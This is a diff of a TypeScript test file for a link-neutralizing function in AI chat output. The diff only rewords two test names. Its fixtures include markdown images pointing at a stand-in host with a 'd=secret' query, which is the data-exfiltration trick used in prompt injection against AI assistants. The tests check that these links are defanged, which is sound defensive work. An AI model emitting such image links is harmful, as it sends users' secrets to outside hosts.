@@ -5,7 +5,7 @@ const KNOWN = 'https://known.example/page';
 const strict = { mayLink: (url: string) => url === KNOWN, bare: true };
 const D = 'evil.example/?d=secret';
 
-describe('in a conversation that has read text of strangers no address stays alive', () => {
+describe('in a conversation that has read untrusted content no address stays alive', () => {
   test.each([
     [`![x](https://${D})`, `x (${D})`],
     [`![](https://${D})`, `image (${D})`],
@@ -53,7 +53,7 @@ test('a fence that is never closed protects nothing', () => {
   expect(plainLinks('```\n![x](https://evil.example/)', strict)).toContain('x (evil.example/)');
 });
 
-test('without strangers about, an address in plain sight stays as it is', () => {
+test('without untrusted content, an address in plain sight stays as it is', () => {
   const rules = { mayLink: () => false, bare: false };
   expect(plainLinks('[Node](https://nodejs.org/) or https://nodejs.org/', rules)).toBe(
     'Node (https://nodejs.org/) or https://nodejs.org/',
